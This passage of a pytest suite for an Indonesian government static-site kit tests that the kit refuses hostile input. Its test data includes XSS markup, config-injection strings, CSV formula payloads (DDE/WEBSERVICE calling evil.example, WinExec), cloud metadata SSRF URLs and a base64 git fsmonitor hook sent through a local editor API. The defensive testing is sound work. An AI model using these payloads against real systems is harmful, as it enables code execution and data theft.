    assert "bocor.txt" in err.getvalue() and "luar folder tema" in err.getvalue()
    assert not site.output.exists()


def test_active_markup_in_an_opd_name_is_refused(site):
    site.write("opd.toml", '[dinkes]\nnama = "Dinas <img src=x onerror=alert(1)>"\nsingkatan = "Dinkes"\n[bpbd]\nnama = "BPBD"\nsingkatan = "BPBD"\n')
    errors = [str(p) for p in site.check().errors]
    assert any("[dinkes] nama" in e and "atribut onerror pada <img>" in e for e in errors), errors


@pytest.mark.parametrize("field, value", [
    ("repo", 'pemkab/situs"}\nimport os  #'),  # would end the settings' dict and run code
    ("gitlab_url", "https://gitlab.contoh.go.id; script-src *"),  # would widen the editor's policy
    ("gitlab_url", 'https://gitlab.contoh.go.id"; add_header X "y'),  # would end nginx's header line
    ("app_id", "abc\nREDAKSI_ENABLED = True"),
    ("oauth_url", 'https://auth.contoh.go.id", "repo": "penyerang/situs'),  # would replace the repository
    ("domain", "contoh.go.id;\n    location / { proxy_pass http://penyerang"),  # lands in nginx.conf
])
def test_situs_baru_writes_no_code_from_its_options(tmp_path, field, value):
    """What `situs-baru` is given lands in pelicanconf.py (Python) and deploy/nginx.conf:
    anything but a plain name or address is refused, in Indonesian, before a file is written."""
    from content import situs

    values = {"nama": "Tirtajaya", "jenis": "kota", "domain": "tirtajayakota.go.id", "opd_slug": "kominfo",
              "opd_nama": "Dinas Komunikasi dan Informatika", "opd_singkatan": "Diskominfo", "repo": "pemkot/situs"}
    values[field] = value
    with pytest.raises(situs.SitusError, match="bukan"):
        situs.create(tmp_path / "situs", situs.Region(**values), forge="github" if field == "oauth_url" else "gitlab", kit=ROOT)
    assert not (tmp_path / "situs").exists()


def test_a_server_block_whose_policy_line_is_gone_is_named_by_check(tmp_path):
    """deploy/nginx.conf beside the content without its Content-Security-Policy line (an
    edit by hand): check warns, naming the file, the key and what must be there."""
    from content.validate import Report
    from publish import check_server

    (tmp_path / "content").mkdir()
    (tmp_path / "deploy").mkdir()
    text = (ROOT / "deploy" / "nginx.conf").read_text(encoding="utf-8")
    lines = [line for line in text.splitlines(True) if "add_header Content-Security-Policy" not in line]
    (tmp_path / "deploy" / "nginx.conf").write_text("".join(lines), encoding="utf-8")
    report = Report()
    check_server(tmp_path / "content", {"EMBED_ALLOWED_HOSTS": ("www.youtube.com",)}, report)
    [problem] = report.warnings
    assert problem.path.endswith("deploy/nginx.conf") and problem.key == "Content-Security-Policy"
    assert "harus ada tepat satu baris `add_header Content-Security-Policy" in problem.message and "(ada 0)" in problem.message


# --- links: what the source can hide, what the HTML shows ------------------------------------

# Pieces of Markdown that nest a link or a reference definition in every container, with
# its address split, indented or cased in every way an author (or an attacker) may type.
_PREFIXES = st.sampled_from(["", "> ", "- ", "1. ", "    ", "  ", "\t", "- > ", "> - ", ">> "])
_SCHEMES = st.sampled_from(["javascript:", "JaVaScRiPt:", "java\nscript:", "java\tscript:", "data:", " \n javascript:",
                            "vbscript:", "ms-appinstaller:", "https://", "mailto:", "/berita/", ""])
_LINKS = st.builds(
    lambda kind, label, scheme, rest: {
        "inline": f"[{label}]({scheme}{rest})",
        "ref": f"[{label}][r]\n\n[r]: {scheme}{rest}",
        "ref-down": f"[{label}][r]\n\n[r]:\n    {scheme}{rest}",
        "auto": f"<{scheme}{rest}>",
        "image": f"![{label}]({scheme}{rest})",
        "footnote": f"Teks[^1].\n\n[^1]: [{label}]({scheme}{rest})",
    }[kind],
    st.sampled_from(["inline", "ref", "ref-down", "auto", "image", "footnote"]),
    st.sampled_from(["formulir", "sukamajukab.go.id", "x"]),
    _SCHEMES,
    st.sampled_from(["alert(1)", "evil.example/x", "a@b.id", ""]),
)


@functools.cache
def body_checker():
    """One checker for every example (its settings read once: most of an example's time)."""
    from content.safety import BodyChecker
    from content.build import load_settings

    return BodyChecker(load_settings(CONF), ROOT / "content")


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(st.tuples(_PREFIXES, _LINKS, st.sampled_from(["\n", "\n\n"])), min_size=1, max_size=4))
def test_markdown_the_check_does_not_render_cannot_make_a_link(parts):
    """The check renders every body that could make an element or attribute beyond plain
    text (``BodyChecker.needs_render``); what it leaves unrendered makes no link, image or
    raw HTML once Pelican's Markdown renders it, however the definition is nested."""
    from content.safety import BodyChecker

    text = "Paragraf pembuka.\n\n" + "".join(prefix + link.replace("\n", "\n" + prefix) + end for prefix, link, end in parts)
    if not BodyChecker.needs_render(text):
        rendered = body_checker().render(text)
        assert "<a " not in rendered and "<img" not in rendered, (text, rendered)


@pytest.mark.parametrize("link", [
    "[kemkes.go.id](https://www.kemkes.go.id/id/layanan)",
    "[www.kemkes.go.id](https://kemkes.go.id/)",
    "[Kemenkes](https://sehatnegeriku.kemkes.go.id/baca/1)",
    "[https://www.youtube.com/@sukamajukab](https://www.youtube.com/@sukamajukab)",
    "[Peta Jl.Merdeka No. 5](https://maps.google.com/?q=Jl.Merdeka)",
    "[surel PPID](mailto:ppid@sukamajukab.go.id)",
    "[Profil “PPID”](/profil-ppid/)",
    # An address shown as itself, a page of this site by its domain, a sub-site of the
    # owner shown, one owner's other name, an Arabic greeting's direction marks.
    "[ppid@sukamajukab.go.id](mailto:ppid@sukamajukab.go.id)",
    "<dinsos.sukamaju@gmail.com>",
    "[sukamajukab.go.id/dip](/dip/)",
    "[ayosehat.kemkes.go.id](https://kemkes.go.id/id/layanan)",
    "[kominfo.go.id](https://www.komdigi.go.id/)",
    "[drive.google.com](https://docs.google.com/forms/d/1)",
    "[youtube.com/@sukamajukab](https://youtu.be/abc)",
    "[\u200e+62 812-3456-7890](https://wa.me/6281234567890)",
    "[\u0639\u064a\u062f \u200f\u0645\u0628\u0627\u0631\u0643 1447 H](https://kemenag.go.id/)",
])
def test_an_honest_link_passes(site, link):
    site.write("berita/dinkes/tautan.md", "Title: Tautan Jujur\nDate: 2026-11-10 09:30\nOPD: dinkes\nAuthor: Humas\n"
               f"Category: Berita\n\nLihat {link} untuk keterangan.\n")
    assert not [str(p) for p in site.check().errors if "tautan.md" in p.path]



def test_a_pdf_whose_picture_or_link_holds_those_letters_is_published(site):
    """A scanned decree's picture bytes, or a link to .../JS/..., hold "/JS" or "/jS": they
    are data, not the PDF's own names (1 of 6 scanned 12 MB decrees was refused)."""
    from content import berkas

    noise = bytes(range(256)) * 8 + b"/JS /jS /Launch /JavaScript" + bytes(range(255, -1, -1)) * 8
    picture = PDF_PLAIN.replace(b"%%EOF", b"9 0 obj\n<< /Type /XObject /Subtype /Image /Length %d >>\nstream\n" % len(noise)
                                + noise + b"\nendstream\nendobj\n%%EOF")
    link = PDF_PLAIN.replace(b"/Type /Catalog", b"/Type /Catalog /URI (https://ayosehat.kemkes.go.id/JS/launch-kampanye)")
    for name, data in (("scan.pdf", picture), ("tautan.pdf", link), ("aliran.pdf", pdf_with_object_stream(b"<< /S /URI /URI (https://kemkes.go.id/) >>", hexed=False))):
        path = site.write(f"dokumen/{name}", data)
        assert berkas.problem(path) is None, name



@pytest.mark.parametrize("text", [
    "sukamajukab\u2024go\u2024id",  # one-dot leaders for dots
    "sukamajukab.go.i\u200bd",  # a zero-width space inside
    "sukamajukab.go.\u0131d",  # a dotless i
    "sukamaju\u0251b.go.id",  # Latin alpha
    "\ua4e2ukamajukab.go.id",  # Lisu
    "lap\u2c9fr.go.id",  # Coptic
    "\U0001d42cukamajukab.go.id",  # mathematical bold
    "sukamajukab.go.\uff49\uff44",  # full-width letters
    "http://103.10.20.30/sukamajukab",  # an address by its number
    "sparkasse.de",
])
def test_a_link_whose_text_shows_another_address_in_disguise_is_refused(site, text):
    site.write("berita/dinkes/palsu.md", "Title: Tautan Palsu\nDate: 2026-11-10 09:30\nOPD: dinkes\nAuthor: Humas\n"
               f"Category: Berita\n\nBayar di [{text}](https://evil.example/bayar).\n")
    found = [p.message for p in site.check().errors if p.path.endswith("palsu.md")]
    assert any("teks tautan" in m for m in found), found


def test_an_office_file_linking_the_author_s_own_disk_is_published(site):
    """A letter made from the office letterhead template (file:///C:/…/Kop Surat.dotx), a
    workbook linking another on drive D: nothing a reader's computer would fetch."""
    from content import berkas

    rels = ("<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
            "relationships/{kind}' Target='{target}' TargetMode='External'/></Relationships>")
    letter = zip_bytes({**WORD, "word/document.xml": "<w/>", "word/_rels/settings.xml.rels":
                        rels.format(kind="attachedTemplate", target="file:///C:\\Users\\humas\\Kop%20Surat%20Diskominfo.dotx")})
    workbook = zip_bytes({**WORD, "xl/workbook.xml": "<workbook/>", "xl/externalLinks/_rels/externalLink1.xml.rels":
                          rels.format(kind="externalLinkPath", target="file:///D:\\RKA 2026\\Rekap RKA Dinkes.xlsx")})
    for name, data in (("surat.docx", letter), ("rka.xlsx", workbook)):
        assert berkas.problem(site.write(f"dokumen/{name}", data)) is None, name


def test_office_97_files_and_embedded_objects_without_macros_are_published(site):
    """A letter saved as Word 97-2003 with a page-number field, a workbook with a chart
    sheet, a presentation and a Word file embedding a worksheet (as an OLE object and as an
    Office package), a CSV with signed numbers and a pipe in a text: nothing in them runs."""
    from content import berkas

    plain = {
        "surat.doc": ole_file(WORD_97),
        "rekap.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0), ("Grafik", 2), links=(
            (3, None), (2, "\x01\x01Canggaran\x03rekap-2025.xls"), (1, "rincian.xls")))}),
        "lampiran.docx": zip_bytes({**WORD, "word/document.xml": "<w/>",
                                    "word/embeddings/oleObject1.bin": ole_file({"Workbook": biff_workbook(("Data", 0))}),
                                    "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_bytes(
                                        {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})}),
    }
    plain.update({
        "paparan.ppt": ole_file({"PowerPoint Document": ppt_stream(ole_file({"Workbook": biff_workbook(("Data", 0))})),
                                 "Current User": b"\0" * 20}),
        "undangan.doc": ole_file({**WORD_97, "WordDocument": word_stream(b"Halaman \x13 PAGE \x14 1\x15 dari 3")}),
        "rekap.csv": ("nama,selisih,catatan\nBudi,-12,naik|turun\nSiti,+5,\"=rata-rata\"\nAni,0,- pagi | sore\n"
                      "Dedi,1,- Rp 1.500.000 | realisasi 80%!\nEka,2,- hyperlink (tautan) menyusul\n"
                      "Fitri,3,- Jl. Merdeka No. 1 | Telp (0282) 521119 | Buka!\n").encode(),
        "nota.docx": ooxml({"word/document.xml": "<w:document><w:r><w:instrText> PA</w:instrText></w:r>"
                                                 "<w:r><w:instrText>GE </w:instrText></w:r></w:document>"}),
        # Part names in another case, as some generators write them: Office reads them alike.
        "ekspor.xlsx": zip_bytes({"[content_types].xml": "<Types/>", "XL/workbook.xml": "<workbook/>"}),
        "tabel.docx": ooxml({"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": zip_bytes(
            {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})}),
    })
    for name, data in plain.items():
        assert berkas.problem(site.write(f"dokumen/{name}", data)) is None, name
    # A civil servant's NIP under a signature (18 digits, in UTF-16 text, or two table cells
    # of numbers): no NIK is read into it (a NUL between digits read as a space joined any 16).
    from content.safety import looks_like_nik

    signed = "Kepala Dinas,\r\rDrs. Budi Santoso, M.Si\rNIP. 19750411 201001 1 003\r\x073302114\x07805850003\x07"
    for encoding in ("utf-16-le", "cp1252"):
        letter = site.write(f"dokumen/surat-{encoding}.doc", ole_file({**WORD_97, "WordDocument": word_stream(signed.encode(encoding))}))
        assert berkas.problem(letter) is None and looks_like_nik(berkas.text_of(letter)) is None, encoding
    broken = site.write("dokumen/rusak.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)
    assert "rusak atau tidak dapat dibaca" in berkas.problem(broken)


def test_a_document_path_that_is_a_symbolic_link_to_itself_is_an_indonesian_error(site):
    """A link loop committed as a document stopped the check with an English traceback."""
    loop = site.content / "dokumen/loop.pdf"
    loop.parent.mkdir(parents=True, exist_ok=True)
    loop.symlink_to("loop.pdf")
    path = site.content / "dip/dinkes/laporan-keuangan.md"
    site.write("dip/dinkes/laporan-keuangan.md", path.read_text().replace("Date:", "Dokumen: dokumen/loop.pdf\nDate:", 1))
    found = [f"{e.key}: {e.message}" for e in site.check().errors if e.path.endswith("laporan-keuangan.md")]
    assert any(e.startswith("Dokumen: \"dokumen/loop.pdf\" bukan lokasi berkas yang sah") for e in found), found


def test_an_office_97_file_too_deep_to_read_is_refused_not_a_crash(site):
    """3000 streams chained through their right links (a legal tree): olefile recurses
    once per stream and gave up with a RecursionError, which stopped every build."""
    from content import berkas

    count, free, end = 3000, 0xFFFFFFFF, 0xFFFFFFFE

    def entry(name: str, kind: int, right: int, child: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return raw.ljust(64, b"\0") + struct.pack("<HBBIII16sIQQIQ", len(raw), kind, 1, free, right, child,
                                                  b"\0" * 16, 0, 0, 0, end, 0)

    directory = entry("Root Entry", 5, free, 1) + b"".join(
        entry(f"s{i}", 2, i + 2 if i + 1 < count else free, free) for i in range(count))
    directory = directory.ljust(-(-len(directory) // 512) * 512, b"\0")
    dir_sectors, fat_sectors = len(directory) // 512, 1
    while fat_sectors + dir_sectors > fat_sectors * 128:
        fat_sectors += 1
    fat = [0xFFFFFFFD] * fat_sectors + [fat_sectors + i + 1 for i in range(dir_sectors - 1)] + [end]
    fat += [free] * (fat_sectors * 128 - len(fat))
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16, 0x3E, 3, 0xFFFE,
                         9, 6, b"\0" * 6, 0, fat_sectors, fat_sectors, 0, 4096, end, 0, end, 0)
    difat = list(range(fat_sectors)) + [free] * (109 - fat_sectors)
    data = header + struct.pack("<109I", *difat) + struct.pack(f"<{len(fat)}I", *fat) + directory
    assert "rusak atau tidak dapat dibaca" in berkas.problem(site.write("dokumen/dalam.doc", data))


def looping_chain() -> bytes:
    """A Word 97 file whose WordDocument claims 3 GB and whose sector chain loops back to
    its start: read leniently, a 24 KB file became gigabytes."""
    data = bytearray(ole_file({"WordDocument": word_stream(b"Surat"), "1Table": b"\0"}))
    fat, entry = 512, 1024 + 128  # the FAT is sector 0, the directory sector 1; WordDocument its second entry
    first = int.from_bytes(data[entry + 116:entry + 120], "little")
    last = next(i for i in range(first, 128) if int.from_bytes(data[fat + 4 * i:fat + 4 * i + 4], "little") == 0xFFFFFFFE)
    data[fat + 4 * last:fat + 4 * last + 4] = first.to_bytes(4, "little")
    data[entry + 120:entry + 128] = (3 * 2**30).to_bytes(8, "little")
    return bytes(data)


def nested_docx(levels: int) -> bytes:
    doc = ooxml({})
    for _ in range(levels):
        doc = ooxml({"word/embeddings/Dokumen.docx": doc})
    return doc


PPT_RECORDS = struct.pack("<HHI", 0x000F, 0x03E8, 8)


def split_sst(*strings: str) -> bytes:
    """An SST record whose last string runs on in a CONTINUE record (its option byte first),
    as Excel writes a table past 8 224 bytes."""
    data = sst(*strings)[4:]
    return (struct.pack("<HH", 0x00FC, len(data) - 10) + data[:-10]
            + struct.pack("<HH", 0x003C, 11) + b"\x01" + data[-10:])


@pytest.mark.parametrize("name, data, said", [
    ("tautan.ppt", ole_file({"PowerPoint Document": PPT_RECORDS + struct.pack("<HHI", 0x000F, 0x0FCE, 0),
                             "Current User": b"\0" * 20}), "tertaut ke berkas lain"),
    ("sandi.ppt", ole_file({"PowerPoint Document": PPT_RECORDS, "EncryptedSummary": b"\0" * 16}), "dilindungi kata sandi"),
    ("tautan-lokal.doc", ole_file({**WORD_97, "ObjectPool": {"_1": {"\x01Ole": b"\x01\x00\x00\x02\x01\x00\x00\x00"
                                                                     + "C:\\Data\\rekap.xlsx".encode("utf-16-le")}}}),
     "tertaut ke berkas lain"),
    ("paket-nama-xml.docx", ooxml({"word/media/image1.xml": ole_file({"\x01Ole10Native": b"MZ\x90\x00"})}), "paket"),
    ("webservice.csv", b'kode,nilai\n1,=WEBSERVICE("https://evil.example/?"&A1)\n', "memuat alamat lain"),
    ("dde-fungsi.csv", b'kode;nilai\n1;=DDE("cmd";"/c calc";"x")\n', "memuat alamat lain"),
    ("tautan.csv", b'kode,nilai\n1,"=HYPERLINK(""https://bansos-sukamaju.example/daftar"",""Daftar bansos"")"\n',
     "membuat tautan"),
    ("impor.csv", b'kode,nilai\n1,=IMPORTXML("https://evil.example/?"&A1;"//a")\n', "memuat alamat lain"),
    ("dde-spasi.csv", b"kode,nilai\n1,=cmd |' /C calc'!A0\n", "menjalankan program"),
    ("panggil.csv", b'kode,nilai\n1,"=CALL(""kernel32"",""WinExec"",""JJ"",""calc"",0)"\n', "menjalankan program"),
    ("sylk-bom.csv", b"\xef\xbb\xbfID;P\nC;X1;Y1;EEXEC(\"calc\")\nE\n", "isinya bukan berkas CSV"),
    ("dde-sel.xls", ole_file({"Workbook": biff_workbook(("Rekap", 0), links=((0, "cmd\x03 /C calc"),))}), "tautan DDE"),
    ("tautan-jaringan.xls", ole_file({"Workbook": biff_workbook(
        ("Rekap", 0), links=((1, "\x01\x01@arsip-bpkad\x03anggaran\x03apbd.xls"),))}),
     "memuat templat, objek atau data dari //arsip-bpkad/anggaran/apbd.xls"),
    ("tautan-web.xls", ole_file({"Workbook": biff_workbook(
        ("Rekap", 0), links=((1, "\x01\x05\x1chttps://evil.example/data.xls"),))}), "dari https://evil.example/data.xls"),
    ("sematan-huruf-kecil.docx", ooxml({"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": zip_bytes(
        {"[content_types].xml": '<Types><Override PartName="/xl/workbook.xml" '
                                'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
         "xl/workbook.xml": "<workbook/>"})}), "berisi makro"),
    ("berputar.doc", looping_chain(), "rusak atau tidak dapat dibaca"),
    ("bersarang.docx", nested_docx(6), "bersarang terlalu dalam"),
])
def test_active_or_hostile_content_hidden_in_documents_is_refused(site, name, data, said):
    """Hidden the ways a second audit tried: a presentation's link and password, a link to
    the author's disk, a package in a part named .xml, CSV formulas with a function, SYLK
    behind a byte-order mark, a looping sector chain, documents nested six deep."""
    from content import berkas

    found = berkas.problem(site.write(f"dokumen/{name}", data))
    assert found and said in found, found


def test_a_document_unpacking_past_its_budget_is_refused_whatever_its_parts(site, monkeypatch):
    """Three objects of a presentation, each under the limit, together past it (many small
    bombs are one large one)."""
    from content import berkas

    monkeypatch.setattr(berkas, "UNPACKED_MAX", 120_000)
    big = ole_file({"Data": b"\0" * 50_000})
    deck = ole_file({"PowerPoint Document": ppt_stream(big, big, big), "Current User": b"\0" * 20})
    assert "bila dibuka isinya lebih dari" in berkas.problem(site.write("dokumen/paparan-besar.ppt", deck))
    assert berkas.problem(site.write("dokumen/paparan-kecil.ppt", ole_file(
        {"PowerPoint Document": ppt_stream(big), "Current User": b"\0" * 20}))) is None


@pytest.mark.parametrize("name, data", [
    ("utf16.docx", ooxml({"word/document.xml": f'<?xml version="1.0" encoding="UTF-16"?><w>Penerima {NIK}</w>'.encode("utf-16")})),
    ("rujukan.docx", ooxml({"word/document.xml": "<w>Penerima " + "".join(f"&#{ord(c)};" for c in NIK) + "</w>"})),
    ("sematan.docx", ooxml({"word/embeddings/Lembar_Kerja.xlsx": XLSX_NIK})),
    ("terbelah.xls", ole_file({"Workbook": biff_workbook(("Data", 0)) + split_sst("Budi Santoso", NIK)})),
])
def test_a_nik_written_less_plainly_in_a_document_is_found(site, name, data):
    """A UTF-16 part, character references, a worksheet embedded in a letter, a shared
    string Excel split over two records."""
    from content import berkas
    from content.safety import looks_like_nik

    assert looks_like_nik(berkas.text_of(site.write(f"dokumen/{name}", data))) == NIK


def test_a_hidden_file_is_never_linked_nor_published(site):
    """A note saved with a hidden name (``.rahasia.txt``) or in a hidden folder: the server
    answers 404 for it, and such files are most often private; a body link and a field
    naming one are refused, and nothing of it is published."""
    site.write("dokumen/dinkes/.rahasia.txt", "kata sandi: rahasia123\n")
    site.write("dokumen/dinkes/.arsip/laporan.pdf", b"%PDF-1.4\n%%EOF\n")
    site.write("berita/dinkes/catatan.md",
               "Title: Catatan Rapat\nDate: 2026-11-10 09:30\nOPD: dinkes\nAuthor: Humas\nCategory: Berita\n\n"
               "Lihat [catatan]({static}/dokumen/dinkes/.rahasia.txt).\n")
    entry = site.content / "dip/dinkes/laporan-keuangan.md"
    entry.write_text(entry.read_text().replace("Date:", "Dokumen: dokumen/dinkes/.arsip/laporan.pdf\nDate:", 1))
    errors = [str(e) for e in site.check().errors]
    assert any("catatan.md: isi: tautan {static}/dokumen/dinkes/.rahasia.txt menuju berkas tersembunyi (.rahasia.txt: "
               "namanya diawali titik)" in e for e in errors), errors
    assert any('laporan-keuangan.md: Dokumen: "dokumen/dinkes/.arsip/laporan.pdf" adalah berkas tersembunyi (.arsip: ' in e
               for e in errors), errors
    assert site.build() == 1
    assert not site.output.exists() or not list(site.output.rglob(".rahasia.txt"))


def test_a_static_link_written_with_percent_escapes_is_named_in_its_own_file(site):
    """Pelican copies a {static} file by its name as written (only %20 read as a space):
    ``foto%2Ejpg`` stopped the build naming a file that does not exist; it is said in the
    item, with the name to write."""
    site.image("images/berita/foto.jpg")
    site.write("berita/dinkes/foto.md", "Title: Foto Kegiatan\nDate: 2026-11-10 09:30\nOPD: dinkes\nAuthor: Humas\n"
               "Category: Berita\n\nLihat [foto]({static}/images/berita/foto%2Ejpg).\n")
    errors = [str(e) for e in site.check().errors]
    assert any("foto.md: isi: tautan {static}/images/berita/foto%2Ejpg: tulis nama berkasnya apa adanya, tanpa kode "
               "persen (%…) selain %20 untuk spasi, mis. {static}/images/berita/foto.jpg" in e for e in errors), errors


def recording_server(host: str = "127.0.0.1", redirect_to: str = ""):
    """A server of the CI machine's own network that notes every request it gets
    (``server.asked``), answering 200, or a redirect to ``redirect_to``."""
    import http.server
    import threading

    asked = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(301 if redirect_to else 200)
            if redirect_to:
                self.send_header("Location", redirect_to)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer((host, 0), Recorder)
    server.asked = asked
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_a_link_into_the_ci_machine_s_own_network_is_never_asked_by_the_external_link_check(site):
    """`./run.sh tautan-luar` asks the addresses authors wrote, from CI: a link to the
    loopback (a service of the CI machine) or to a cloud's metadata address must not make
    it send a request there. Such a link is broken for every citizen anyway: said so."""
    server = recording_server()
    asked = server.asked
    inside = f"http://127.0.0.1:{server.server_address[1]}/hapus-semua"
    try:
        site.write("berita/dinkes/tautan-dalam.md", (
            "Title: Tautan ke Jaringan Dalam\nDate: 2026-11-01 09:00\nCategory: Berita\nOPD: dinkes\n"
            f"Author: Humas Dinkes\nSummary: Uji.\n\n[panel]({inside}) dan "
            "[metadata](http://169.254.169.254/latest/meta-data/)\n"))
        assert site.build(SOCIAL=()) == 0
        proc = subprocess.run([sys.executable, "tasks.py", "tautan-luar", "--output", str(site.output), "--abaikan",
                               "https://jdihn.go.id/", "--hasil", str(site.root / "hasil.json")], cwd=ROOT,
                              capture_output=True, encoding="utf-8", timeout=120)
    finally:
        server.shutdown()
    assert asked == []
    assert proc.returncode == 1, proc.stdout + proc.stderr
    # (Named by its page here: the task reads the kit's settings, whose content is the sample's.)
    for address, ip in ((inside, "127.0.0.1"), ("http://169.254.169.254/latest/meta-data/", "169.254.169.254")):
        assert f"KESALAHAN halaman berita/2026/11/tautan-ke-jaringan-dalam/index.html (templat): tautan: tautan luar " \
               f"'{address}': menuju jaringan dalam ({ip}), yang tidak dapat dibuka warga; tidak ditanyakan" in proc.stdout, proc.stdout


def test_a_name_whose_dns_answer_turns_internal_after_the_check_reaches_nothing(monkeypatch):
    """DNS rebinding: a host of the author's (or an attacker's) answers a public address
    when the check looks it up, then the CI machine's loopback when the request connects.
    The request must connect to the address that was checked, or to none."""
    import socket

    from links import luar

    server = recording_server()
    port = server.server_address[1]
    real = socket.getaddrinfo
    lookups = []

    def rebinding(host, *args, **kwargs):
        if host != "pemda-lain.example":
            return real(host, *args, **kwargs)
        lookups.append(host)
        ip = "93.184.216.34" if len(lookups) == 1 else "127.0.0.1"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (ip, port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    try:
        [answer] = luar.ask_all([f"http://pemda-lain.example:{port}/hapus-semua"], timeout=2)
    finally:
        server.shutdown()
    assert len(lookups) >= 2  # looked up again when connecting: the second answer is the attack
    assert server.asked == []
    assert answer.verdict == "rusak" and "menuju jaringan dalam (127.0.0.1)" in answer.why, answer


def test_a_redirect_into_the_ci_machine_s_own_network_is_not_followed():
    """A public page that redirects to an internal address (the metadata service, a panel
    on the CI network) must not make the check follow it."""
    from links import luar

    target = recording_server("127.0.0.2")
    secret = f"http://127.0.0.2:{target.server_address[1]}/rahasia"
    start = recording_server(redirect_to=secret)
    try:
        # The first server stands for the public site: its address alone may be asked.
        [answer] = luar.ask_all([f"http://127.0.0.1:{start.server_address[1]}/pindah"], timeout=2, inside={"127.0.0.1"})
    finally:
        start.shutdown()
        target.shutdown()
    assert start.asked == ["/pindah"] and target.asked == []
    assert answer.verdict == "rusak", answer
    assert answer.why == f"dialihkan ke {secret}, di jaringan dalam (127.0.0.2), yang tidak dapat dibuka warga; tidak diikuti"


def test_another_site_cannot_drive_the_local_editor_backend_through_dns_rebinding(tmp_path):
    """`./run.sh editor` runs decap-server on 127.0.0.1:8081, which checks no Host and no path:
    a page of another site whose name was made to point at 127.0.0.1 read .git/config and
    wrote it (git then ran the command a config names). Its guard answers this computer's
    names only, from such an origin, and passes paths inside content/ only."""
    import json
    import urllib.error
    import urllib.request

    from editor import lokal
    from nginx_helper import free_port

    if not lokal.SERVER.is_file():
        pytest.fail("decap-server not installed: run ./run.sh test, which runs scripts/node-deps.sh")
    repo = tmp_path / "repo"
    (repo / "content" / "berita").mkdir(parents=True)
    (repo / "content" / "berita" / "x.md").write_text("Title: X\n\nIsi.\n", encoding="utf-8")
    (repo / "pelicanconf.py").write_text("SITENAME = 'x'\n", encoding="utf-8")
    git = ["git", "-c", "user.name=Uji", "-c", "user.email=uji@example.invalid"]
    for args in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "awal"]):
        subprocess.run([*git, *args], cwd=repo, check=True)
    config = (repo / ".git" / "config").read_bytes()
    port = free_port()
    backend = lokal.start(repo, port, stdout=subprocess.PIPE)

    def ask(action, params, host=f"127.0.0.1:{port}", origin=None):
        headers = {"Content-Type": "application/json", "Host": host, **({"Origin": origin} if origin else {})}
        request = urllib.request.Request(f"http://127.0.0.1:{port}/api/v1", headers=headers,
                                         data=json.dumps({"action": action, "params": {"branch": "main", **params}}).encode())
        try:
            with urllib.request.urlopen(request, timeout=20) as response:
                return response.status, json.loads(response.read())
        except urllib.error.HTTPError as exc:
            return exc.code, json.loads(exc.read() or b"{}")

    try:
        assert backend.ready(60), "decap-server did not answer behind its guard"
        code, answer = ask("getEntry", {"path": "content/berita/x.md"}, origin=f"http://localhost:{port + 1}")
        assert code == 200 and "Isi." in json.dumps(answer)  # the editor's own request
        evil = f"rebind.penyerang.example:{port}"
        hook = {"path": ".git/config", "content": "W2NvcmVdCglmc21vbml0b3IgPSB0b3VjaCAvdG1wL3B3bmVkCg==", "encoding": "base64"}
        attempts = [
            ("getEntry", {"path": ".git/config"}, evil, f"http://{evil}"),  # rebinding: another name
            ("getEntry", {"path": "content/berita/x.md"}, evil, None),
            ("getEntry", {"path": "content/berita/x.md"}, f"127.0.0.1:{port}", "https://penyerang.example"),
            ("getEntry", {"path": "content/berita/x.md"}, f"127.0.0.1:{port}", "http://203.0.113.7"),  # a site by address
            ("getEntry", {"path": "content/../.git/config"}, f"127.0.0.1:{port}", None),  # this computer, outside content/
            ("persistEntry", {"entry": {"path": "pelicanconf.py", "raw": "import os\n"}, "assets": [hook]}, f"127.0.0.1:{port}", None),
            ("persistEntry", {"entry": {"path": "content/berita/y.md", "raw": "Title: Y\n"}, "assets": [hook]}, f"127.0.0.1:{port}", None),
        ]
        for action, params, host, origin in attempts:
            code, answer = ask(action, params, host, origin)
            assert code == 403 and ("ditolak" in answer["error"] or "di luar folder content/" in answer["error"]), (params, answer)
    finally:
        backend.terminate()
    assert (repo / ".git" / "config").read_bytes() == config
    assert (repo / "pelicanconf.py").read_text() == "SITENAME = 'x'\n"
    log = subprocess.run(["git", "log", "--all", "--name-only", "--format="], cwd=repo, capture_output=True, text=True).stdout
    assert "pelicanconf.py" in log and "y.md" not in log and log.count("pelicanconf.py") == 1


def test_the_local_editor_s_guard_refuses_a_malformed_length_and_keeps_answering():
    """A request whose Content-Length is no number ended in a traceback, and a negative one
    held a thread reading until the client hung up: both are a 400 said in Indonesian."""
    import http.server
    import socket
    import threading

    from editor import lokal

    guard = lokal.guard_server(0, 9)
    threading.Thread(target=guard.serve_forever, daemon=True).start()
    port = guard.server_address[1]
    try:
        for length in ("dua", "-1", "1e3"):
            with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
                conn.sendall(f"POST /api/v1 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: {length}\r\n"
                             "Connection: close\r\n\r\n{}".encode())
                answer = b""
                while chunk := conn.recv(4096):
                    answer += chunk
            assert answer.startswith(b"HTTP/1.0 400") and "Content-Length) tidak sah" in answer.decode(), (length, answer)
    finally:
        guard.shutdown()
        guard.server_close()


def test_a_browser_that_leaves_before_the_editor_s_answer_prints_no_traceback(capfd):
    """The local editor's guard passes decap-server's answer on; a tab closed (or a request
